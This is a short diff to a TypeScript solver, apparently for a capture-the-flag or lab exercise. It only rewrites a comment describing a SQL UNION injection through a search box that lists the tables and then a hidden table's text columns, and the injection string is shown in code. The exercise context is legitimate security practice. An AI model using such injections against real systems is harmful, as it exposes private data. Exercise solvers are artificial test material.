@@ -1,6 +1,9 @@
 import type { SolveContext } from '../solve-context.ts'
 
-/** Uses a UNION injection through the search box: first it lists the tables, then every text column of the hidden table. */
+/**
+ * Injects UNION queries through the search box. The first lists the tables, and the others list the text columns of the hidden
+ * table.
+ */
 export async function solve(context: SolveContext): Promise<string> {
   const ask = async (question: string): Promise<string> => {
     const injected = `nothing' UNION SELECT 1, 2, 3, ${question} -- `
